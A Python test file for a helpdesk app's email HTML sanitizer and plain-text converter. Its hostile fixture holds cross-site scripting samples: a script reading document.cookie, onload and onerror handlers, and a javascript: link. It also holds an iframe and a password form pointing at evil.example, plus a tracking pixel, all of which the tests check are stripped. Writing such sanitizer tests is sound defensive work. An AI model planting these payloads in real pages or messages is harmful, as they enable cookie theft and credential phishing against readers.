"""Customer HTML is made safe to show agents; plain text is derived from HTML for replies."""

from __future__ import annotations

from postdesk.mail.html import html_to_text, sanitize_html

HOSTILE = """<html><head><title>Offer</title><style>body{background:url(https://t.example/bg)}</style></head>
<body onload="steal()">
<p style="color: red; background: url(https://t.example/p.png); position: fixed">Hello <b>Dana</b></p>
<img src="cid:logo@shop.example" alt="logo">
<img src="https://tracker.example/pixel.gif" onerror="alert(1)">
<img src="data:image/png;base64,AAAA">
<a href="javascript:alert(1)">click</a> <a href="https://shop.example/order/1">your order</a>
<script>alert(document.cookie)</script><iframe src="https://evil.example"></iframe>
<form action="https://evil.example"><input name="password"></form>
<table width="100%" cellpadding="4"><tr><td valign="top">Total</td><td>12 EUR</td></tr></table>
</body></html>"""


def test_scripts_handlers_and_active_content_are_removed() -> None:
    safe = sanitize_html(HOSTILE, resolve_cid=lambda content_id: f"/api/inline/{content_id}")
    for forbidden in (
        "<script",
        "onload",
        "onerror",
        "javascript:",
        "<iframe",
        "<form",
        "<input",
        "<style",
        "url(",
        "position",
        "data:image",
        "steal()",
    ):
        assert forbidden not in safe, forbidden
    assert '<p style="color:red">Hello <b>Dana</b></p>' in safe
    assert '<td valign="top">Total</td>' in safe


def test_inline_images_point_to_our_urls_and_remote_images_are_blocked() -> None:
    safe = sanitize_html(HOSTILE, resolve_cid=lambda content_id: f"/api/inline/{content_id}")
    assert '<img src="/api/inline/logo@shop.example" alt="logo">' in safe
    assert "tracker.example" not in safe

    unknown_cid = sanitize_html('<img src="cid:missing">', resolve_cid=lambda content_id: None)
    assert "cid:" not in unknown_cid

    allowed = sanitize_html(HOSTILE, allow_remote_images=True)
    assert 'src="https://tracker.example/pixel.gif"' in allowed


def test_links_open_safely() -> None:
    safe = sanitize_html('<a href="https://shop.example/order/1">order</a>')
    assert 'rel="noopener noreferrer nofollow"' in safe and 'target="_blank"' in safe


def test_plain_text_from_html() -> None:
    text = html_to_text(HOSTILE)
    assert "alert" not in text and "background" not in text and "Offer" not in text
    assert "Hello Dana" in text
    assert "your order (https://shop.example/order/1)" in text
    assert "Total 12 EUR" in text
    assert html_to_text("<ul><li>one</li><li>two</li></ul><p>a<br>b</p>") == "- one\n- two\n\na\nb"
    assert html_to_text('<a href="https://x.example">https://x.example</a>') == "https://x.example"
    assert html_to_text("<pre>  keep\n    indent</pre>") == "keep\n    indent"
